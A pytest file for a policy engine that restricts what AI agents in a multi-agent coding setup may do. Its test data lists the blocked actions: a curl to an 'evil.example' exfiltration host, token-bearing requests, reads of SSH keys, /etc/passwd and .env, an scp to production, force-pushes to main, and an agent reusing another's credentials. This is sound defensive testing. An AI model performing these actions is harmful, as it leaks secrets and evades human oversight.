"""The policy engine (lanectl.policy) and `lanectl policy explain`, on real repositories.

The org: a builder, a reviewer, a security agent and a designer from four
model families, one human, the system actor `lanectl`, a GitHub forge token
and one user red rule — all committed on main. The builder's task has a real
worktree on lanes/T-7K2M9Q4D.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import yaml

from conftest import Cli, git
from lanectl import ledger, policy
from lanectl.policy import Action, Actor
from lanectl.state import change
from lanectl.workspace import open_workspace

TASK = "T-7K2M9Q4D"
OTHER_TASK = "T-3F8A1C2B"
SCP = ("scp", "nginx.conf", "deploy@prod-web-1:/etc/nginx/")
CONFIG = """\
version: 1
base_branch: main
forge: {kind: github, repo: shop/web, token_env: GITHUB_TOKEN}
humans:
  - {id: alice, name: Alice Example, email: alice@example.com}
agents:
  builder-claude: {role: builder, provider: anthropic, model: claude-sonnet-4-6, family: anthropic, budget: anthropic-main}
  reviewer-gpt: {role: reviewer, provider: openai, model: gpt-5, family: openai, budget: openai-main}
  security-gemini: {role: security, provider: openai-compatible, base_url: "https://generativelanguage.googleapis.com/v1beta/openai/", model: gemini-2.5-pro, family: google, budget: google-main}
  designer-mistral: {role: designer, provider: openai-compatible, base_url: "https://api.mistral.ai/v1", model: mistral-large, family: mistral, budget: mistral-main}
budgets:
  anthropic-main: {credential_env: ANTHROPIC_API_KEY, rpm: 50}
  openai-main: {credential_env: OPENAI_API_KEY, rpm: 500}
  google-main: {credential_env: GEMINI_API_KEY, rpm: 60}
  mistral-main: {credential_env: MISTRAL_API_KEY, rpm: 60}
policy:
  red_rules:
    - {name: no-prod-db, commands: ["psql *"], paths: ["secrets/**"], hosts: ["*.prod.internal"], reason: "production data is off limits; ask a human"}
"""
ACTORS = {
    "builder": "builder-claude",
    "reviewer": "reviewer-gpt",
    "security": "security-gemini",
    "designer": "designer-mistral",
    "human": "alice",
    "lanectl": "lanectl",
}
OWN_CREDENTIAL = {
    "builder": "ANTHROPIC_API_KEY",
    "reviewer": "OPENAI_API_KEY",
    "security": "GEMINI_API_KEY",
    "designer": "MISTRAL_API_KEY",
}
TOKEN = {  # the forge token is lanectl's and the humans', never an agent's
    **dict.fromkeys(("builder", "reviewer", "security", "designer"), "GITHUB_TOKEN"),
    "lanectl": "ANTHROPIC_API_KEY",
}
FOREIGN_CREDENTIAL = {  # another agent's key
    "builder": "OPENAI_API_KEY",
    "reviewer": "GEMINI_API_KEY",
    "security": "OPENAI_API_KEY",
    "designer": "ANTHROPIC_API_KEY",
}


@pytest.fixture
def org(lane_repo: Path, tmp_path: Path) -> Path:
    (lane_repo / ".lanes/config.yaml").write_text(CONFIG)
    (lane_repo / "src").mkdir()
    (lane_repo / "src/app.py").write_text("print('shop')\n")
    git(lane_repo, "add", ".lanes/config.yaml", "src/app.py")
    git(lane_repo, "commit", "-q", "-m", "The org chart and its policy")
    bare = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    git(lane_repo, "remote", "add", "origin", str(bare))
    git(lane_repo, "worktree", "add", "-q", "-b", f"lanes/{TASK}", str(worktree(lane_repo)), "main")
    return lane_repo


def worktree(repo: Path) -> Path:
    return repo.parent / "wt" / TASK


def ctx_for(repo: Path, name: str, *, task: str | None = TASK) -> policy.PolicyContext:
    return policy.load_context(open_workspace(repo), name, task=task, worktree=worktree(repo))


def events(ws_repo: Path) -> list[dict[str, object]]:
    log_dir = open_workspace(ws_repo).log_dir
    return [json.loads(line) for f in ledger.files(log_dir) for line in f.read_text().splitlines()]


def decide(repo: Path, role: str, action: Action, **kw: str | None) -> policy.Decision:
    name = ACTORS[role]
    return policy.decide(Actor(name, role), action, ctx_for(repo, name, **kw))


# -- the capability table of SPEC §5.1 ----------------------------------------------------------

CAPABILITY_ACTIONS = {
    "write": Action("write", paths=("src/app.py",), task=TASK),
    "commit": Action("commit", paths=("src/app.py",), ref=f"lanes/{TASK}", task=TASK),
    "read": Action("read", paths=("src/app.py",)),
    "run": Action("run", argv=("python", "-m", "pytest", "-q")),
    "record_review": Action("record_review", task=TASK),
    "veto": Action("veto", task=TASK),
    "approve": Action("approve", task=TASK),
    "merge": Action("merge", task=TASK),
    "change_policy": Action("change_policy", paths=(".lanes/config.yaml",)),
}
TABLE = {  # SPEC §5.1, row by row
    "write": {"builder", "human"},
    "commit": {"builder", "human"},
    "read": set(ACTORS),
    "run": set(ACTORS),
    "record_review": {"reviewer", "security", "designer", "human"},
    "veto": {"security", "human"},
    "approve": {"human"},
    "merge": {"human"},
    "change_policy": {"human"},
}


@pytest.mark.parametrize("role", list(ACTORS))
def test_capability_table_for_every_role(org: Path, role: str) -> None:
    for kind, action in CAPABILITY_ACTIONS.items():
        decision = decide(org, role, action)
        expected = role in TABLE[kind]
        assert decision.allowed is expected, f"{role} {kind}: {decision}"
        if expected:
            assert decision.rule == f"lane.{kind}"
        else:
            assert decision.rule in (f"lane.{kind}", "red.merge-approve", "red.protected-branch")
            assert decision.reason


def test_a_denied_capability_says_who_may_and_what_to_do(org: Path) -> None:
    decision = decide(org, "reviewer", CAPABILITY_ACTIONS["write"])
    assert decision.rule == "lane.write"
    assert decision.reason.startswith("the reviewer lane may not write files")
    assert "only: builder, human" in decision.reason
    assert "reviewers record findings" in decision.reason


# -- every red rule of SPEC §5.2, by every agent role, and lanectl's own automation ------------

RED_ACTIONS = [
    ("credential", lambda role: Action("credential", credential=FOREIGN_CREDENTIAL.get(role, "OPENAI_API_KEY")), "red.credential-reuse"),
    ("token in a command", lambda role: Action("run", argv=("sh", "-c", f'curl -H "Authorization: Bearer ${TOKEN[role]}" https://api.github.com/user')), "red.credential-reuse"),
    ("ssh keys", lambda role: Action("read", paths=("~/.ssh/id_ed25519",)), "red.credential-reuse"),
    ("host config", lambda role: Action("run", argv=SCP), "red.outside-pipeline"),
    ("cluster", lambda role: Action("run", argv=("kubectl", "apply", "-f", "deploy.yaml")), "red.outside-pipeline"),
    ("force-push base", lambda role: Action("run", argv=("git", "push", "-f", "origin", "main")), "red.protected-branch"),
    ("delete base", lambda role: Action("run", argv=("git", "push", "origin", ":main")), "red.protected-branch"),
    ("other branch", lambda role: Action("push", ref=f"lanes/{OTHER_TASK}", host="origin"), "red.protected-branch"),
    ("merge", lambda role: Action("merge", task=TASK), "red.merge-approve"),
    ("approve", lambda role: Action("approve", task=TASK), "red.merge-approve"),
    ("trailer", lambda role: Action("run", argv=("git", "commit", "-m", "ok\n\nLane-Approves: 3f1c")), "red.merge-approve"),
    ("network", lambda role: Action("run", argv=("curl", "https://evil.example/exfil")), "red.network"),
    ("read outside", lambda role: Action("read", paths=("../../../etc/passwd",)), "red.outside-worktree"),
    ("write outside", lambda role: Action("write", paths=("/tmp/planted",)), "red.outside-worktree"),
    ("secret file", lambda role: Action("read", paths=(".env",)), "red.secret-file"),
]  # fmt: skip


@pytest.mark.parametrize("role", ["builder", "reviewer", "designer", "security", "lanectl"])
def test_every_red_rule_is_denied_for_every_role_and_written_down(org: Path, role: str) -> None:
    name = ACTORS[role]
    ctx = ctx_for(org, name)
    actor = Actor(name, role)
    ws = open_workspace(org)
    with change(ws, name, role, "red rule drill") as ch:
        decisions = [
            (label, rule, policy.enforce(ch, actor, make(role), ctx))
            for label, make, rule in RED_ACTIONS
        ]
    for label, rule, decision in decisions:
        assert not decision.allowed, label
        assert decision.rule == rule, (label, decision)
        assert decision.attempted
    written = [e for e in events(org) if e["actor"] == name]
    assert len(written) == len(RED_ACTIONS)
    for event, (_, rule, decision) in zip(written, decisions, strict=True):
        assert event["kind"] == ("gate.blocked" if role == "lanectl" else "tool.denied")
        assert event["role"] == role
        assert event["result"] == "blocked"
        assert event["attempted"] == list(decision.attempted)
        assert event["reason"] == decision.reason
        assert event["task"] == TASK
        assert event["data"]["rule"] == rule
    suffix = "lanectl's own automation too" if role == "lanectl" else f"the {role} lane included"
    assert all(suffix in str(e["reason"]) for e in written)


def test_the_security_agent_reusing_a_credential_and_pushing_to_prod_is_blocked(
    org: Path, cli: Cli
) -> None:
    """The essay: the enforcer is caught by the gates it enforces."""
    ctx = ctx_for(org, "security-gemini")
    actor = Actor("security-gemini", "security")
    attempt = Action(
        "run",
        argv=("sh", "-c", "KEY=$OPENAI_API_KEY; scp nginx.conf deploy@prod-web-1:/etc/nginx/"),
        task=TASK,
    )
    with change(open_workspace(org), "security-gemini", "security", "under pressure") as ch:
        decision = policy.enforce(ch, actor, attempt, ctx, kind="gate.blocked")
    assert not decision.allowed
    assert decision.attempted == (
        "reuse service credential across systems (KEY=$OPENAI_API_KEY)",
        "push host config outside pipeline (scp nginx.conf deploy@prod-web-1:/etc/nginx/)",
    )
    (event,) = yaml.safe_load(cli("log", "--result", "blocked", ok=True).out)
    assert event["actor"] == "security-gemini"
    assert event["role"] == "security"
    assert event["kind"] == "gate.blocked"
    assert event["attempted"] == list(decision.attempted)
    assert event["result"] == "blocked"
    assert "same red rules apply to every lane, the security lane included" in event["reason"]


def test_an_allowed_action_records_nothing(org: Path) -> None:
    ctx = ctx_for(org, "builder-claude")
    ws = open_workspace(org)
    with change(ws, "builder-claude", "builder", "work") as ch:
        decision = policy.enforce(
            ch, Actor("builder-claude", "builder"), CAPABILITY_ACTIONS["run"], ctx
        )
    assert decision.allowed
    assert [e for e in events(org) if e["actor"] == "builder-claude"] == []


# -- user red rules come from the base branch ---------------------------------------------------


def test_user_red_rules_from_the_base_branch_apply(org: Path) -> None:
    psql = Action("run", argv=("psql", "-h", "db.prod.internal", "-c", "select 1"))
    decision = decide(org, "builder", psql)
    assert decision.rule == "user.no-prod-db"
    assert decision.reason.startswith("production data is off limits; ask a human")
    assert decide(org, "builder", Action("read", paths=("secrets/keys.txt",))).rule == (
        "user.no-prod-db"
    )
    network = decide(org, "builder", Action("network", host="metrics.prod.internal"))
    assert network.rule == "red.network"  # the built-in rule is named first …
    assert "no-prod-db (metrics.prod.internal)" in network.attempted  # … and the user rule too
    assert decide(org, "human", psql).rule == "user.no-prod-db"  # users' rules bind humans too


def test_editing_the_working_tree_config_does_not_remove_base_rules(org: Path) -> None:
    psql = Action("run", argv=("psql", "-h", "db.prod.internal"))
    without = CONFIG.split("  red_rules:")[0] + "  red_rules: []\n"
    (org / ".lanes/config.yaml").write_text(without)  # the user's checkout, uncommitted
    assert decide(org, "builder", psql).rule == "user.no-prod-db"
    wt = worktree(org)  # and committed on the task branch
    (wt / ".lanes/config.yaml").write_text(without)
    git(wt, "commit", "-q", "-am", "Relax policy")
    assert decide(org, "builder", psql).rule == "user.no-prod-db"
    # … nor does a rule added outside the base branch apply
    added = CONFIG + '    - {name: no-make, commands: ["make *"]}\n'
    (org / ".lanes/config.yaml").write_text(added)
    assert decide(org, "builder", Action("run", argv=("make", "all"))).allowed


def test_no_policy_on_the_base_branch_refuses_everything(
    git_repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    Cli(git_repo, capsys)("init", ok=True)  # scaffolded, not committed to main
    ctx = policy.load_context(open_workspace(git_repo), "builder-claude")
    assert ctx.refusal is not None
    assert ctx.refusal.startswith("no policy on the base branch")
    for role in ("builder", "human", "lanectl"):
        decision = policy.decide(Actor("x", role), Action("read", paths=("README.md",)), ctx)
        assert not decision.allowed
        assert decision.rule == "policy.missing"


def test_an_invalid_base_config_refuses_everything_and_says_where(org: Path) -> None:
    broken = CONFIG.replace("  red_rules:", "  red_rule:")
    (org / ".lanes/config.yaml").write_text(broken)
    git(org, "commit", "-q", "-am", "typo")
    ctx = ctx_for(org, "builder-claude")
    assert ctx.refusal is not None
    assert "main:.lanes/config.yaml:" in ctx.refusal
    assert "unknown key" in ctx.refusal
    assert decide(org, "human", CAPABILITY_ACTIONS["read"]).rule == "policy.missing"


def test_a_base_branch_that_is_a_task_branch_is_refused(org: Path) -> None:
    text = (org / ".lanes/config.yaml").read_text()
    (org / ".lanes/config.yaml").write_text(
        text.replace("base_branch: main", f"base_branch: lanes/{TASK}")
    )
    assert ctx_for(org, "builder-claude").refusal is not None


# -- actors, tasks, refs ---------------------------------------------------------------------------


def test_actors_must_be_who_the_base_config_says(org: Path) -> None:
    ctx = ctx_for(org, "reviewer-gpt")
    read = CAPABILITY_ACTIONS["read"]
    assert policy.decide(Actor("reviewer-gpt", "human"), read, ctx).rule == "actor.role"
    assert policy.decide(Actor("mallory", "human"), read, ctx_for(org, "mallory")).rule == (
        "actor.unknown"
    )
    assert policy.decide(Actor("builder-claude", "builder"), read, ctx).rule == "actor.context"


def test_builders_work_only_on_their_own_task_and_branch(org: Path) -> None:
    write = Action("write", paths=("src/app.py",))
    assert decide(org, "builder", write).allowed
    no_task = decide(org, "builder", write, task=None)
    assert no_task.rule == "lane.write"
    assert "no task given" in no_task.reason
    other = Action("write", paths=("src/app.py",), task=OTHER_TASK)
    assert decide(org, "builder", other).rule == "lane.write"
    assert decide(org, "builder", Action("commit", ref="main")).rule == "red.protected-branch"
    assert decide(org, "builder", Action("push", ref=f"lanes/{TASK}", host="origin")).allowed
    assert not decide(org, "builder", Action("push", ref=f"lanes/{TASK}", host="evil")).allowed
    state = Action("push", ref="lanectl/state", host="origin")
    assert decide(org, "lanectl", state).allowed
    assert decide(org, "lanectl", Action("push", ref="main", host="origin")).rule == (
        "red.protected-branch"
    )


def test_credentials_and_hosts_are_each_agents_own(org: Path) -> None:
    for role, own in OWN_CREDENTIAL.items():
        assert decide(org, role, Action("credential", credential=own)).allowed, role
    denied = decide(org, "builder", Action("credential", credential="OPENAI_API_KEY"))
    assert "the credential of reviewer-gpt (budget openai-main)" in denied.reason
    assert decide(org, "human", Action("credential", credential="GITHUB_TOKEN")).allowed
    assert not decide(org, "builder", Action("credential", credential="UNHEARD_OF")).allowed
    google = "generativelanguage.googleapis.com"
    assert decide(org, "security", Action("network", host=google)).allowed
    assert decide(org, "builder", Action("network", host="api.anthropic.com")).allowed


def test_a_shared_budget_is_owned_by_every_agent_that_draws_on_it() -> None:
    raw = yaml.safe_load(CONFIG)
    raw["agents"]["designer-gpt"] = {"role": "designer", "provider": "openai",
                                     "family": "openai", "budget": "openai-main"}  # fmt: skip
    use = Action("credential", credential="OPENAI_API_KEY")
    for name, role in (("designer-gpt", "designer"), ("reviewer-gpt", "reviewer")):
        ctx = policy.context_from_config(raw, base_branch="main", actor_name=name)
        assert policy.decide(Actor(name, role), use, ctx).allowed


# -- paths: symlinks, `..`, secrets, policy files ----------------------------------------------------


def test_paths_are_judged_after_symlinks_and_dotdot(org: Path, tmp_path: Path) -> None:
    wt = worktree(org)
    outside = tmp_path / "outside.txt"
    outside.write_text("not yours\n")
    (wt / "notes.txt").symlink_to(outside)
    (wt / ".env").write_text("KEY=x\n")
    (wt / "readme.txt").symlink_to(wt / ".env")
    assert decide(org, "builder", Action("read", paths=("notes.txt",))).rule == (
        "red.outside-worktree"
    )
    cat = Action("run", argv=("cat", "notes.txt"))
    assert decide(org, "builder", cat).rule == "red.outside-worktree"
    assert decide(org, "builder", Action("read", paths=("readme.txt",))).rule == "red.secret-file"
    assert decide(org, "builder", Action("read", paths=("src/../../x",))).rule == (
        "red.outside-worktree"
    )
    inside = os.fspath(wt / "src/app.py")
    assert decide(org, "builder", Action("read", paths=(inside,))).allowed


def test_only_humans_write_policy_and_nobody_writes_git_internals(org: Path) -> None:
    lanes = Action("write", paths=(".lanes/config.yaml",))
    assert decide(org, "builder", lanes).rule == "lane.change_policy"
    assert decide(org, "human", lanes).allowed
    hook = Action("write", paths=(".git/hooks/pre-commit",))
    assert decide(org, "builder", hook).rule == "red.outside-worktree"


# -- lanectl policy explain -------------------------------------------------------------------------


def state_snapshot(repo: Path) -> tuple[str, list[str]]:
    files = sorted((repo / ".git/lanectl/state/.lanes/log").glob("*/*.jsonl"))
    return git(repo, "rev-parse", "lanectl/state"), [f.read_text() for f in files]


def test_explain_exit_codes_and_output(org: Path, cli: Cli) -> None:
    before = state_snapshot(org)
    ok = cli("policy", "explain", "--actor", "builder-claude", "--task", TASK, "--",
             "python", "-m", "pytest", "-q")  # fmt: skip
    assert ok.code == 0, ok.err
    assert "✓ allow  run `python -m pytest -q`" in ok.out
    assert "rule:      lane.run" in ok.out
    denied = cli("policy", "explain", "--actor", "security-gemini", "--", *SCP)
    assert denied.code == 3
    assert "✗ deny" in denied.out
    assert "rule:      red.outside-pipeline" in denied.out
    assert "attempted: push host config outside pipeline (scp nginx.conf" in denied.out
    assert "the security lane included" in denied.out
    quoted = cli("policy", "explain", "--actor", "builder-claude", "--", "git push origin main")
    assert quoted.code == 3  # one quoted command line is judged as the shell would run it
    assert "push to the base branch main" in quoted.out
    human = cli("policy", "explain", "--actor", "alice", "--write", ".lanes/config.yaml",
                "--", "lanectl", "approve", TASK)  # fmt: skip
    assert human.code == 0, human.out
    system = cli("policy", "explain", "--actor", "lanectl", "--credential", "OPENAI_API_KEY")
    assert system.code == 3
    assert "lanectl (lanectl)" in system.out
    assert state_snapshot(org) == before  # explain records nothing


def test_explain_json(org: Path, cli: Cli) -> None:
    before = state_snapshot(org)
    result = cli("policy", "explain", "--json", "--actor", "builder-claude", "--task", TASK,
                 "--read", ".env", "--write", "src/app.py", "--credential", "OPENAI_API_KEY",
                 "--", "git", "status")  # fmt: skip
    assert result.code == 3
    report = json.loads(result.out)
    assert report["actor"] == "builder-claude"
    assert report["role"] == "builder"
    assert report["task"] == TASK
    assert report["base_branch"] == "main"
    assert report["allowed"] is False
    shown = [(d["action"]["kind"], d["allowed"], d["rule"]) for d in report["decisions"]]
    assert shown == [
        ("read", False, "red.secret-file"),
        ("write", True, "lane.write"),
        ("credential", False, "red.credential-reuse"),
        ("run", True, "lane.run"),
    ]
    assert report["decisions"][0]["attempted"] == ["read a secret file (.env)"]
    assert cli("--json", "policy", "explain", "--actor", "reviewer-gpt", "--", "ls").code == 0
    assert state_snapshot(org) == before


def test_explain_resolves_a_task_prefix_and_reports_bad_input(org: Path, cli: Cli) -> None:
    tid = json.loads(cli("--json", "task", "new", "Retry fetch", ok=True).out)["id"]
    result = cli("policy", "explain", "--actor", "builder-claude", "--task", tid[2:7],
                 "--", "git", "push", "origin", f"lanes/{tid}")  # fmt: skip
    assert result.code == 0, result.out
    assert f"task {tid}" in result.out
    unknown = cli("policy", "explain", "--actor", "mallory", "--", "ls")
    assert unknown.code == 1
    assert "unknown actor 'mallory'" in unknown.err
    assert "builder-claude" in unknown.err
    nothing = cli("policy", "explain", "--actor", "builder-claude")
    assert nothing.code == 1
    assert "nothing to explain" in nothing.err


def test_explain_uses_the_base_branch_config(org: Path, cli: Cli) -> None:
    text = CONFIG.split("  red_rules:")[0] + "  red_rules: []\n"
    (org / ".lanes/config.yaml").write_text(text)
    result = cli("policy", "explain", "--actor", "builder-claude", "--", "psql", "-h", "db")
    assert result.code == 3
    assert "user.no-prod-db" in result.out
